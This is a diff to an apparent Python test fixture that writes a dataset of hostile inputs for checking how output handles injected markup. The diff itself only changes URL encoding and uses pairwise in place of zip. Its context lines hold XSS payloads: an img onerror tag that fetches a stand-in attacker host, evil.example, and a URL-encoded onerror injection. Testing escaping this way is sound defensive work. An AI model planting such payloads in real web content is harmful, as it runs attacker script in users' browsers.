@@ -1,6 +1,7 @@
 """A dataset in which every text tries to be markup, to end its surroundings, or to be more than fits."""
 
 import json
+from itertools import pairwise
 from pathlib import Path
 
 TAG = "<img src=x onerror=\"window.ran=1;fetch('http://evil.example/')\">"
@@ -28,7 +29,7 @@ def write_hostile(folder: Path) -> Path:
         "date": "2020",
         "kind": "think-tank",
         "reliability": "B",
-        "url": "https://example.org/?q=%22%3E%3Cimg%20src=x%20onerror=window.ran=5%3E&a='b'",
+        "url": "https://example.org/?q=%22%3E%3Cimg%20src=x%20onerror=window.ran=5%3E&a=%27b%27",
         "note": SCRIPT,
     }
     claim = {"source": "paper", "at": f"P1{TAG}", "stance": "affirms", "credibility": 2, "says": f"It says {TAG}."}
@@ -56,7 +57,7 @@ def write_hostile(folder: Path) -> Path:
             "note": f"{TAG}{QUOTES}",
             "claims": [claim, denial],
         }
-        for one, other in zip(ids, ids[1:], strict=False)
+        for one, other in pairwise(ids)
     ]
     event = {
         "id": "clash",
